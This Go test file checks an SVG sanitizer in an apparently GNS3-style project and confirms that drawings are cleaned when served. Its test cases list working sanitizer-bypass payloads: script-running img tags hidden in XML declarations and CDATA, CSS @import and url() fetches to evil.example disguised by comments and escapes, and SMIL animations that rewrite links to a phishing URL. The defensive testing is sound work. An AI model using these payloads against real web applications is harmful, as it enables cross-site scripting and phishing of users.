package project

import (
	"strings"
	"testing"
)

// Each drawing here passed sanitizeSVG with what it fetches or runs when
// a page renders it: markup that an HTML parser (a web UI's innerHTML)
// reads differently from XML, style sheets split by a comment, CSS
// escapes, image-set(), and animations that set a link's target.
func TestSVGSanitizerBypasses(t *testing.T) {
	for _, tc := range []struct{ name, in string }{
		{"xml declaration closed early by an HTML parser",
			`<?xml version="1.0" encoding="UTF-8" standalone="><img src=x onerror=alert(1)>"?><svg></svg>`},
		{"CDATA an HTML parser reads as a bogus comment",
			`<svg><p><![CDATA[><img src=x onerror=alert(1)>]]></p></svg>`},
		{"@import split by a comment", `<svg><style>@imp<!---->ort "http://evil.example/x.css";</style></svg>`},
		{"@import split by CDATA", `<svg><style>@imp<![CDATA[ort "http://evil.example/x.css";]]></style></svg>`},
		{"url( by a CSS escape", `<svg><rect style="fill:u\72l(http://evil.example/x)" width="1"/></svg>`},
		{"@import by a CSS escape", `<svg><style>@\69mport "http://evil.example/x.css";</style></svg>`},
		{"image-set", `<svg><style>svg{background-image:image-set("http://evil.example/t.png" 1x)}</style></svg>`},
		{"set href", `<svg><a href="#x"><set attributeName="href" to="https://evil.example/phish"/><text>go</text></a></svg>`},
		{"animate xlink:href", `<svg><a href="#x"><animate attributeName="xlink:href" values="data:text/html,evil.example"/><text>go</text></a></svg>`},
		{"set an event handler", `<svg><set attributeName="onmouseover" to="evil.example()"/></svg>`},
	} {
		out, err := sanitizeSVG(tc.in)
		if err != nil {
			continue // refused is as good as cleaned
		}
		for _, bad := range []string{"evil.example", "<img", "<![CDATA["} {
			if strings.Contains(out, bad) {
				t.Errorf("%s: %q kept %q", tc.name, out, bad)
			}
		}
	}
	// What GNS3 writes stays byte for byte; escapes that fetch nothing stay.
	for _, ok := range []string{
		`<?xml version="1.0" encoding="UTF-8"?><svg height="100" width="200"><rect fill="#ffffff" height="100" width="200"/></svg>`,
		`<svg><text font-family="TypeWriter">a\b</text><animate attributeName="opacity" values="0;1"/></svg>`,
	} {
		if out, err := sanitizeSVG(ok); err != nil || out != ok {
			t.Errorf("%q changed: %q %v", ok, out, err)
		}
	}
}

// A drawing's SVG is cleaned when it is served, not only when a client
// sends it: a long SVG lives in project-files/images, which the files API
// writes and an imported archive fills, and an imported project file's
// inline SVG never went through the drawings API.
func TestServedDrawingsAreCleanWhateverWroteThem(t *testing.T) {
	f := newFixture(t)
	long := `<svg height="10" width="10"><text>` + strings.Repeat("a", 2*inlineSVG) + `</text></svg>`
	d, err := f.svc.Drawings.Create(t.Context(), f.project.ID, "", DrawingUpdate{SVG: &long})
	if err != nil {
		t.Fatal(err)
	}
	st, _ := f.svc.core.lookup(f.project.ID)
	st.mu.RLock()
	stored := st.drawings[0].SVG
	st.mu.RUnlock()
	if strings.Contains(stored, "<") {
		t.Fatalf("a long SVG stayed inline: %.40q", stored)
	}
	evil := `<svg onload="alert(1)"><script>alert(2)</script></svg>`
	if err := f.svc.Files.WriteProject(f.project.ID, imagesDir+"/"+stored, []byte(evil)); err != nil {
		t.Fatal(err)
	}
	got, err := f.svc.Drawings.Get(f.project.ID, d.ID)
	if err != nil || strings.Contains(got.SVG, "alert") {
		t.Fatalf("the drawing of a rewritten file: %q %v", got.SVG, err)
	}
	st.mu.Lock()
	st.drawings[0].SVG = evil // as an imported project file holds it
	st.mu.Unlock()
	list, _ := f.svc.Drawings.List(f.project.ID)
	if len(list) != 1 || strings.Contains(list[0].SVG, "alert") {
		t.Fatalf("an inline stored SVG served as it was: %q", list[0].SVG)
	}
}
